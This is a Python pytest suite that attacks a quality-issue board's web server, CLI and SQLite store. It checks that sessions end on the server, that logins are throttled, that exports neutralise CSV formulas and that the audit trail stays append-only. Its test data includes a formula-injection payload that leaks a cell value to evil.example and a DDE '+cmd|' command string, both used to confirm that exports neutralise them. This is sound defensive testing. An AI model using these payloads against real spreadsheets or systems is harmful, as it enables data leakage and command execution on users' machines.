"""The board and the issue store attacked as a user with an account would, through the real
server over HTTP (and the real CLI, SQLite file and CSV files): sessions, the login
throttle, CSV formulas, response headers, input limits, user administration, the
append-only audit trail, password hashes and the Dagster UI's address.

A home of its own (a copy of the sample home with the demo story), served by a board of
its own, so that disabling users and throttling names never disturbs other tests."""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
import os
import signal
import sqlite3
import statistics
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlencode, urlparse

import duckdb
import flask
import openpyxl
import pytest
import requests
from flask.sessions import SecureCookieSessionInterface

from dagster_project.lib.remediation.schema import EVENT_TABLES

from .conftest import demo_home
from .qloop_cli import (
    BOARD_SECRET, QLOOP, clean_env, free_port, qloop, served_board, wait_until_answering,
)

PASSWORD = "security-pass-2026"
NEW_PASSWORD = "another-pass-2026"
TIMEOUT = 30


# -- fixtures and helpers --------------------------------------------------------------------

@pytest.fixture(scope="module")
def home(sample_home, tmp_path_factory) -> Path:
    return demo_home(sample_home, tmp_path_factory.mktemp("security-home"))


@pytest.fixture(scope="module")
def url(home):
    with served_board(home) as url:
        yield url


def add_user(home: Path, name: str, role: str = "quality_manager",
             department: str | None = None) -> None:
    args = ["users", "add", name, "--role", role, "--password-stdin", "--home", str(home)]
    result = qloop(*args, *(["--department", department] if department else []),
                   input_text=f"{PASSWORD}\n")
    assert result.returncode == 0, result.stderr


def login_status(url: str, name: str, password: str, headers: dict | None = None) -> int:
    return requests.post(f"{url}/login", data={"username": name, "password": password},
                         headers=headers, allow_redirects=False, timeout=TIMEOUT).status_code


def logged_in(url: str, name: str, password: str = PASSWORD) -> requests.Session:
    session = requests.Session()
    response = session.post(f"{url}/login", data={"username": name, "password": password},
                            allow_redirects=False, timeout=TIMEOUT)
    assert response.status_code == 302, response.text
    return session


def store(home: Path) -> sqlite3.Connection:
    return sqlite3.connect(home / "issues.sqlite")


def issue_events(home: Path, issue_id: int) -> list:
    with store(home) as con:
        return con.execute("select seq, action, comment from issue_events where issue_id = ? "
                           "order by seq", (issue_id,)).fetchall()


def active_issue(home: Path) -> dict:
    result = qloop("issues", "list", "--json", "--state", "open", "--home", str(home))
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)[0]


def comment_payload(session: requests.Session, url: str, home: Path, issue_id: int,
                    text: str) -> dict:
    """The issue page's comment callback, as the browser posts it."""
    dependencies = session.get(f"{url}/_dash-dependencies", timeout=TIMEOUT).json()
    comment = next(d for d in dependencies
                   if d["inputs"] == [{"id": "action-comment", "property": "n_clicks"}])
    outputs = [dict(zip(("id", "property"), part.rsplit(".", 1)))
               for part in comment["output"].strip(".").split("...")]
    with store(home) as con:
        version = con.execute("select version from issues where id = ?", (issue_id,)
                              ).fetchone()[0]
    values = {"comment-text": text, "issue-id": issue_id, "issue-version": version}
    return {"output": comment["output"], "outputs": outputs,
            "inputs": [{"id": "action-comment", "property": "n_clicks", "value": 1}],
            "state": [{**s, "value": values[s["id"]]} for s in comment["state"]],
            "changedPropIds": ["action-comment.n_clicks"]}


def post_callback(url: str, payload: dict, session: requests.Session | None = None,
                  cookie: str | None = None) -> requests.Response:
    sender = session or requests
    cookies = {"qloop_session": cookie} if cookie else None
    return sender.post(f"{url}/_dash-update-component", json=payload, cookies=cookies,
                       timeout=TIMEOUT)


def login_from(url: str, source_address: str, name: str, password: str) -> int:
    """A login sent from another local address (127.0.0.0/8 is all loopback on Linux)."""
    parsed = urlparse(url)
    connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=TIMEOUT,
                                            source_address=(source_address, 0))
    try:
        connection.request("POST", "/login", urlencode({"username": name, "password": password}),
                           {"Content-Type": "application/x-www-form-urlencoded"})
        return connection.getresponse().status
    finally:
        connection.close()


# -- 1. sessions end on the server ----------------------------------------------------------

def test_a_cookie_saved_before_logout_no_longer_acts(home, url):
    add_user(home, "sec_logout")
    issue_id = active_issue(home)["id"]
    session = logged_in(url, "sec_logout")
    saved = session.cookies.get("qloop_session")
    done = post_callback(url, comment_payload(session, url, home, issue_id, "before logout"),
                         session)
    assert done.status_code == 200 and "before logout" in str(issue_events(home, issue_id))
    replay = comment_payload(session, url, home, issue_id, "after logout")
    session.get(f"{url}/logout", timeout=TIMEOUT)
    before = issue_events(home, issue_id)
    refused = post_callback(url, replay, cookie=saved)
    assert refused.status_code == 401
    assert issue_events(home, issue_id) == before


@pytest.mark.parametrize("command", [("reset-password", "--password-stdin"), ("disable",),
                                     ("set-role", "--role", "viewer")])
def test_a_password_reset_disabling_and_a_role_change_end_the_users_sessions(
        home, url, command):
    name = f"sec_end_{command[0].replace('-', '_')}"
    add_user(home, name)
    sessions = [logged_in(url, name), logged_in(url, name)]
    assert all(s.get(f"{url}/_dash-layout", timeout=TIMEOUT).status_code == 200
               for s in sessions)
    result = qloop("users", command[0], name, *command[1:], "--home", str(home),
                   input_text=f"{NEW_PASSWORD}\n")
    assert result.returncode == 0, result.stderr
    assert "2 board session(s) ended" in result.stdout
    assert [s.get(f"{url}/_dash-layout", timeout=TIMEOUT).status_code for s in sessions] \
        == [401, 401]


def test_the_role_comes_from_the_store_not_from_the_cookie(home, url):
    add_user(home, "sec_role")
    issue_id = active_issue(home)["id"]
    qloop("users", "set-role", "sec_role", "--role", "viewer", "--home", str(home))
    viewer = logged_in(url, "sec_role")
    assert "sec_role · viewer" in viewer.get(f"{url}/_dash-layout", timeout=TIMEOUT).text
    before = issue_events(home, issue_id)
    answer = post_callback(url, comment_payload(viewer, url, home, issue_id, "as a viewer"),
                           viewer).json()["response"]
    assert "sec_role is a viewer" in json.dumps(answer)
    assert issue_events(home, issue_id) == before
    # a cookie signed with the board's key that claims a role is not a session
    forge = flask.Flask("forge")
    forge.secret_key = BOARD_SECRET
    signer = SecureCookieSessionInterface().get_signing_serializer(forge)
    for claim in ({"user": {"name": "sec_role", "role": "quality_manager"}},
                  {"sid": "guessed-session-id"}):
        forged = requests.get(f"{url}/_dash-layout", timeout=TIMEOUT,
                              cookies={"qloop_session": signer.dumps(claim)})
        assert forged.status_code == 401, claim


# -- 2 and 3. the login throttle ------------------------------------------------------------

def test_parallel_wrong_passwords_are_counted_before_they_are_checked(home, url):
    add_user(home, "sec_parallel", "viewer")
    assert [login_status(url, "sec_parallel", "wrong-password") for _ in range(3)] == [401] * 3
    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(lambda _: login_status(url, "sec_parallel", "wrong-password"),
                                 range(8)))
    assert sorted(statuses) == [401, 401] + [429] * 6  # limit 5 in the window
    assert login_status(url, "sec_parallel", PASSWORD) == 429


def test_nobody_can_lock_a_user_out_from_another_address(home, url):
    add_user(home, "sec_victim")
    attacker, victim = "127.0.0.1", "127.0.0.2"
    assert [login_from(url, attacker, "sec_victim", "guess") for _ in range(5)] == [401] * 5
    assert login_from(url, attacker, "sec_victim", PASSWORD) == 429
    assert login_from(url, victim, "sec_victim", PASSWORD) == 302
    # and a forwarded-for header is no way around it without a trusted proxy in front
    headers = {"X-Forwarded-For": "10.9.9.9"}
    assert login_status(url, "sec_victim", PASSWORD, headers) == 429


def test_an_unknown_user_name_costs_a_password_check_too(home, url):
    """Without the dummy check an unknown name answered in a few milliseconds, a known one
    after a full argon2id check (~0.1 s or more): a generous ratio tells the two apart on
    a loaded machine."""
    add_user(home, "sec_timing", "viewer")

    def seconds(name: str) -> float:
        start = time.perf_counter()
        assert login_status(url, name, "wrong-password") == 401
        return time.perf_counter() - start

    known = statistics.median(seconds("sec_timing") for _ in range(3))
    unknown = statistics.median(seconds(f"sec_nobody_{i}") for i in range(3))
    assert unknown > known / 3, (known, unknown)


# -- 4. CSV formula injection ---------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_formulas_typed_into_an_issue_reach_the_closure_list_as_text(home, url):
    issue = active_issue(home)
    department = issue["owner_department"]
    add_user(home, "sec_csv_owner", "department_owner", department)
    steps = (("acknowledge", "--responsible", FORMULA),
             ("plan", "--root-cause-category", "process", "--root-cause", "@SUM(1+1)",
              "--actions", "+cmd|' /C calc'!A0", "--target-date", "2099-01-01"))
    for step in steps:
        result = qloop("issue", str(issue["id"]), step[0], "--user", "sec_csv_owner",
                       *step[1:], "--home", str(home))
        assert result.returncode == 0, result.stderr
    session = logged_in(url, "sec_csv_owner")
    text = session.get(f"{url}/download/closure-list/{department}.csv",
                       timeout=TIMEOUT).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["issue_id"] == str(issue["id"]))
    assert row["responsible"] == "'" + FORMULA
    assert row["corrective_actions"] == "'+cmd|' /C calc'!A0"
    workbook = openpyxl.load_workbook(io.BytesIO(session.get(
        f"{url}/download/closure-list/{department}.xlsx", timeout=TIMEOUT).content))
    sheet = workbook.active
    keys = [c.value for c in sheet[4]]
    data = next(r for r in sheet.iter_rows(min_row=5) if r[0].value == issue["id"])
    responsible = data[keys.index("Responsible")]
    assert (responsible.value, responsible.data_type) == (FORMULA, "s")


def test_every_csv_writer_neutralises_text_and_keeps_negative_numbers(tmp_path):
    from datetime import date, datetime

    from dagster_project.lib.quality.rejects import write_rejects_csv
    from dagster_project.lib.remediation.assessment import (
        ASSESSMENT_COLUMNS, assessment_path, export_assessment,
    )
    from dagster_project.lib.remediation.post_evaluation import (
        COLUMN_KEYS, write_department_files,
    )

    con = duckdb.connect()
    values = {c: "0" for c in ASSESSMENT_COLUMNS}
    values.update(month="date '2026-10-01'", scope_type="'city'", scope_code="'=1+1'",
                  satisfaction_change="-0.25")
    con.execute("create table fct_horizontal_assessment as select "
                + ", ".join(f"{v} as {c}" for c, v in values.items()))
    export_assessment(con, tmp_path)
    (row,) = csv.DictReader(open(assessment_path(tmp_path, date(2026, 10, 1)), newline=""))
    assert (row["scope_code"], row["scope_type"], row["satisfaction_change"]) == \
        ("'=1+1", "city", "-0.25")

    con.execute("create table fct_rejected_rows as select 'crm_ticket' as entity, "
                "'crm_ticket_20261001.csv' as file_name, 7 as line, 3 as rule, "
                "chr(9) || 'tab reason' as reason, '@evil' as raw_values")
    con.execute("create table raw_files as select 'crm_ticket_20261001.csv' as file_name, "
                "'run1' as run_id")
    con.execute("create table raw_deliveries as select 'crm_ticket' as entity, "
                "'-bad.csv' as file_name, 'run1' as run_id, 'rejected' as outcome, "
                "'+x' as reason")
    write_rejects_csv(con, "run1", tmp_path / "rejects.csv")
    rows = list(csv.DictReader(open(tmp_path / "rejects.csv", encoding="utf-8-sig",
                                    newline="")))
    assert [(r["file_name"], r["reason"], r["raw_values"]) for r in rows] == [
        ("'-bad.csv", "rejected: +x", ""),
        ("crm_ticket_20261001.csv", "'\ttab reason", "'@evil")]

    post = {k: None for k in COLUMN_KEYS}
    post.update(change_id=1, title="=cmd()", kpi_code="K01", verdict="worse",
                difference=-0.125, owner_department="SERVICE")
    files = write_department_files([post], "SERVICE", tmp_path, datetime(2026, 10, 2, 8))
    (row,) = csv.DictReader(open(files.csv, encoding="utf-8-sig", newline=""))
    assert (row["title"], row["difference"]) == ("'=cmd()", "-0.125")
    title = openpyxl.load_workbook(files.xlsx).active.cell(4, COLUMN_KEYS.index("title") + 1)
    assert (title.value, title.data_type) == ("=cmd()", "s")


# -- 5. response headers, the data docs, behind a TLS proxy -----------------------------------

def test_no_page_can_be_framed_and_scripts_come_from_the_board_only(home, url):
    add_user(home, "sec_headers", "viewer")
    session = logged_in(url, "sec_headers")
    for path in ("/login", "/", "/_dash-layout", "/issues"):
        headers = session.get(f"{url}{path}", headers={"Accept": "text/html"},
                              timeout=TIMEOUT).headers
        policy = headers["Content-Security-Policy"]
        assert headers["X-Frame-Options"] == "DENY", path
        assert "frame-ancestors 'none'" in policy, path
        scripts = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
        assert "unsafe" not in scripts and "http" not in scripts and "*" not in scripts, path
        assert headers["X-Content-Type-Options"] == "nosniff", path


def test_the_board_works_under_its_policy_in_a_browser(page, home, url):
    """The `page` fixture fails the test on any console error: a blocked script or style
    of the board's own would be one."""
    add_user(home, "sec_browser")
    page.goto(f"{url}/login")
    page.fill("input[name=username]", "sec_browser")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_selector("#scorecard tbody tr", timeout=60_000)
    page.goto(f"{url}/kpi/K01")
    page.wait_for_selector(".js-plotly-plot", timeout=60_000)


def test_the_data_docs_fetch_nothing_from_other_sites(browser, home, url):
    """GX's pages still link images of its own site: the policy blocks them in the browser
    (a request blocked by CSP never reaches the network, so no route sees it)."""
    add_user(home, "sec_docs", "viewer")
    session = logged_in(url, "sec_docs")
    docs = session.get(f"{url}/data-docs/index.html", timeout=TIMEOUT)
    assert docs.status_code == 200
    assert docs.headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "<script src=\"http" not in docs.text  # the CDN scripts are left out at build
    context = browser.new_context()
    sent: list[str] = []
    blocked: list[tuple[str, str]] = []
    try:
        context.add_cookies([{"name": "qloop_session", "url": url,
                              "value": session.cookies.get("qloop_session")}])
        context.route("**/*", lambda route: (sent.append(route.request.url), route.continue_()))
        docs_page = context.new_page()
        docs_page.on("requestfailed", lambda r: blocked.append((r.url, r.failure)))
        validation = next((home / "data-docs" / "validations").rglob("*.html"))
        for path in ("index.html", validation.relative_to(home / "data-docs").as_posix()):
            docs_page.goto(f"{url}/data-docs/{path}")
            docs_page.wait_for_load_state("load")
        assert "Expectation Validation Result" in docs_page.locator("body").inner_text()
    finally:
        context.close()
    assert sent and all(u.startswith(url) for u in sent), sent
    assert all(failure == "csp" for u, failure in blocked if not u.startswith(url)), blocked


def test_behind_a_tls_proxy_the_cookie_is_secure_and_the_client_address_is_forwarded(home):
    add_user(home, "sec_proxy")
    settings = {"QLOOP_BOARD_SECURE_COOKIE": "1", "QLOOP_BOARD_PROXIES": "1"}
    with served_board(home, settings) as proxied:
        via = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "10.0.0.7"}
        response = requests.post(f"{proxied}/login", data={"username": "sec_proxy",
                                                           "password": PASSWORD},
                                 headers=via, allow_redirects=False, timeout=TIMEOUT)
        assert response.status_code == 302
        assert "Secure" in response.headers["Set-Cookie"]
        attacker, user = {"X-Forwarded-For": "10.0.0.8"}, {"X-Forwarded-For": "10.0.0.9"}
        assert [login_status(proxied, "sec_proxy", "guess", attacker) for _ in range(5)] \
            == [401] * 5
        assert login_status(proxied, "sec_proxy", PASSWORD, attacker) == 429
        assert login_status(proxied, "sec_proxy", PASSWORD, user) == 302


# -- 6. input limits ------------------------------------------------------------------------

def test_a_request_body_over_the_limit_is_refused_with_a_clear_message(home, url):
    add_user(home, "sec_body")
    session = logged_in(url, "sec_body")
    issue_id = active_issue(home)["id"]
    before = issue_events(home, issue_id)
    payload = comment_payload(session, url, home, issue_id, "x" * 300_000)
    response = post_callback(url, payload, session)
    assert response.status_code == 413
    assert "Request too large: at most 256 KB" in response.text
    assert issue_events(home, issue_id) == before


def test_an_overlong_comment_is_refused_in_the_board(home, url):
    add_user(home, "sec_long")
    session = logged_in(url, "sec_long")
    issue_id = active_issue(home)["id"]
    before = issue_events(home, issue_id)
    response = post_callback(url, comment_payload(session, url, home, issue_id, "y" * 5000),
                             session)
    assert response.status_code == 200
    message = response.json()["response"]["issue-message"]["children"]["props"]
    assert message["data-kind"] == "refused"
    assert "comment text is too long: 5000 characters, at most 4000" in message["children"]
    assert issue_events(home, issue_id) == before


def test_an_overlong_change_title_is_refused_in_the_cli(home):
    add_user(home, "sec_title")
    with store(home) as con:
        before = con.execute("select count(*) from changes").fetchone()
    result = qloop("change", "register", "--user", "sec_title", "--title", "t" * 5000,
                   "--type", "product", "--department", "SERVICE", "--launch-date",
                   "2099-01-01", "--affects", "K01:NJ", "--home", str(home))
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        "qloop: refused: title is too long: 5000 characters, at most 200"]
    with store(home) as con:
        assert con.execute("select count(*) from changes").fetchone() == before


# -- 7. user administration -----------------------------------------------------------------

def test_user_administration_is_audited_and_a_disabled_user_cannot_act(home, url):
    add_user(home, "sec_admin")
    issue_id = active_issue(home)["id"]

    def users(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
        return qloop("users", *args, "--home", str(home), input_text=stdin)

    assert users("disable", "sec_admin").returncode == 0
    assert login_status(url, "sec_admin", PASSWORD) == 401
    acted = qloop("issue", str(issue_id), "comment", "--user", "sec_admin", "--text", "hi",
                  "--home", str(home))
    assert acted.returncode == 1
    assert acted.stderr.strip() == "qloop: refused: user sec_admin is disabled"
    listed = json.loads(users("list", "--json").stdout)
    assert next(u for u in listed if u["name"] == "sec_admin")["disabled"] is True
    assert users("enable", "sec_admin").returncode == 0
    assert login_status(url, "sec_admin", PASSWORD) == 302
    assert users("set-role", "sec_admin", "--role", "department_owner",
                 "--department", "SERVICE").returncode == 0
    assert users("reset-password", "sec_admin", "--password-stdin",
                 stdin=f"{NEW_PASSWORD}\n").returncode == 0
    assert login_status(url, "sec_admin", PASSWORD) == 401
    assert login_status(url, "sec_admin", NEW_PASSWORD) == 302
    with store(home) as con:
        events = con.execute("select action, actor, changes from user_events where "
                             "user_name = 'sec_admin' order by seq").fetchall()
    assert [e[0] for e in events] == ["add", "disable", "enable", "set_role", "reset_password"]
    assert all(e[1].startswith("cli:") for e in events)
    assert json.loads(events[3][2]) == {"role": "department_owner", "department_code": "SERVICE"}
    assert not any(PASSWORD in e[2] or NEW_PASSWORD in e[2] for e in events)
    # refusals: one line, exit 1
    for args in (("disable", "sec_nobody"), ("enable", "sec_admin"),
                 ("set-role", "sec_admin", "--role", "department_owner")):
        refused = users(*args)
        assert refused.returncode == 1 and len(refused.stderr.strip().splitlines()) == 1, args
        assert refused.stderr.startswith("qloop: refused: "), args


# -- 8. the audit trail is append-only in the database; the store is private -------------------

@pytest.mark.parametrize("table", EVENT_TABLES)
def test_the_database_refuses_to_change_or_delete_events(home, table):
    if table == "change_events":
        assert qloop("change", "register", "--user", "demo_qm", "--title", "audited",
                     "--type", "product", "--department", "SERVICE", "--launch-date",
                     "2099-01-01", "--affects", "K01:NJ", "--home", str(home)).returncode == 0
    con = store(home)
    try:
        before = con.execute(f"select * from {table} order by id").fetchall()
        assert before, f"no {table} to attack"
        for statement in (f"update {table} set actor = 'mallory'", f"delete from {table}"):
            with pytest.raises(sqlite3.DatabaseError, match="append-only"):
                con.execute(statement)
            con.rollback()
        assert con.execute(f"select * from {table} order by id").fetchall() == before
    finally:
        con.close()


def test_every_migration_from_0004_on_keeps_the_triggers(tmp_path):
    from alembic import command
    from alembic.script import ScriptDirectory

    from dagster_project.lib.remediation.store import IssueStore, _alembic_config

    store_ = IssueStore(f"sqlite:///{tmp_path / 'steps.sqlite'}")
    revisions = [r.revision for r in
                 reversed(list(ScriptDirectory.from_config(_alembic_config()).walk_revisions()))]
    for revision in revisions:
        with store_.engine.connect() as conn:
            conn = conn.execution_options(immediate=True)
            with conn.begin():
                command.upgrade(_alembic_config(conn), revision)
        if revision < "0004":
            continue
        with store_.begin_read() as conn:
            triggers = {(t, n) for t, n in conn.exec_driver_sql(
                "select tbl_name, name from sqlite_master where type = 'trigger'")}
        for table in EVENT_TABLES:
            assert {(table, f"{table}_refuse_update"), (table, f"{table}_refuse_delete")} \
                <= triggers, (revision, table)
    store_.dispose()


def test_the_postgresql_migration_creates_the_same_triggers():
    """No PostgreSQL server here: Alembic's offline mode renders the DDL for it."""
    from alembic import command

    from dagster_project.lib.remediation.store import _alembic_config

    config = _alembic_config()
    config.output_buffer = io.StringIO()
    config.set_main_option("sqlalchemy.url", "postgresql://")
    command.upgrade(config, "head", sql=True)
    ddl = config.output_buffer.getvalue()
    assert "CREATE OR REPLACE FUNCTION qloop_refuse_event_change() RETURNS trigger" in ddl
    for table in EVENT_TABLES:
        assert (f"CREATE TRIGGER {table}_refuse_change BEFORE UPDATE OR DELETE ON {table} "
                "FOR EACH ROW EXECUTE FUNCTION qloop_refuse_event_change()") in ddl
        assert f"CREATE TRIGGER {table}_refuse_truncate BEFORE TRUNCATE ON {table}" in ddl
    assert "DROP TRIGGER" not in ddl and "%" not in ddl


def test_a_new_issue_store_is_readable_by_its_owner_only(tmp_path):
    add_user(tmp_path, "first")
    for name in ("issues.sqlite", "issues.sqlite-wal", "issues.sqlite-shm"):
        path = tmp_path / name
        if path.exists():
            assert path.stat().st_mode & 0o777 == 0o600, name


# -- 9. password hashes ---------------------------------------------------------------------

def test_passwords_are_argon2id_and_an_old_hash_is_replaced_at_the_next_login(home, url):
    add_user(home, "sec_legacy")
    salt = os.urandom(16)
    legacy = "scrypt$16384$8$1${}${}".format(
        salt.hex(), hashlib.scrypt(PASSWORD.encode(), salt=salt, n=2**14, r=8, p=1).hex())
    with store(home) as con:
        fresh = con.execute("select password_hash from users where name = 'sec_legacy'"
                            ).fetchone()[0]
        con.execute("update users set password_hash = ? where name = 'sec_legacy'", (legacy,))
    parameters = dict(p.split("=") for p in fresh.split("$")[3].split(","))
    assert fresh.startswith("$argon2id$") and int(parameters["m"]) >= 19456
    assert int(parameters["t"]) >= 2
    assert login_status(url, "sec_legacy", "wrong-password") == 401
    with store(home) as con:
        assert con.execute("select password_hash from users where name = 'sec_legacy'"
                           ).fetchone()[0] == legacy  # a failed login changes nothing
    assert login_status(url, "sec_legacy", PASSWORD) == 302
    with store(home) as con:
        upgraded = con.execute("select password_hash from users where name = 'sec_legacy'"
                               ).fetchone()[0]
    assert upgraded.startswith("$argon2id$")
    assert login_status(url, "sec_legacy", PASSWORD) == 302


# -- 10. the Dagster UI beside the board ----------------------------------------------------

def _listening_commands(port: int) -> list[list[str]]:
    """Command lines of the processes told to serve on `port` (-p or --port)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes().decode().split("\0")
        except (OSError, ValueError):
            continue
        flags = [i for i, arg in enumerate(command[:-1]) if arg in ("-p", "--port")]
        if any(command[i + 1] == str(port) for i in flags):
            found.append(command)
    return found


def test_the_dagster_ui_beside_the_board_listens_on_localhost(home):
    board_port, ui_port = free_port(), free_port()
    process = subprocess.Popen(
        [QLOOP, "board", "--home", str(home), "--host", "127.0.0.2", "--port", str(board_port),
         "--with-dagster-ui", str(ui_port)], stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, start_new_session=True,
        env=clean_env({"QLOOP_BOARD_SECRET": BOARD_SECRET}))
    try:
        wait_until_answering(f"http://127.0.0.2:{board_port}/healthz", process, 60)
        deadline = time.monotonic() + 60
        while not (ui := _listening_commands(ui_port)) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert ui, "the Dagster UI was not started"
        for command in ui:  # `qloop ui`, then the `dagster dev` it becomes
            host = command[command.index("-h" if "-h" in command else "--host") + 1]
            assert host == "127.0.0.1", command
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(timeout=30)
